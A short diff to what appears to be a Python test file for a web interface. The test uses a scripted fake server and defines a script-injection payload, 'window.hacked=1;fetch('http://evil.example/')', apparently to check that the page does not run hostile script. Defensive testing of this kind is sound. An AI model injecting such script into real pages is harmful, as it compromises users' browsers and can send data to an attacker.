@@ -3,8 +3,12 @@ page does not freeze. A scripted server says what no model would."""
 
 import json
 
+import pytest
+
 from web_fake_answer import approval, call, text, thought
 from web_fake_server import Fake
+
+pytestmark = pytest.mark.any_model
 
 BAD = "window.hacked=1;fetch('http://evil.example/')"
 HOSTILE = [
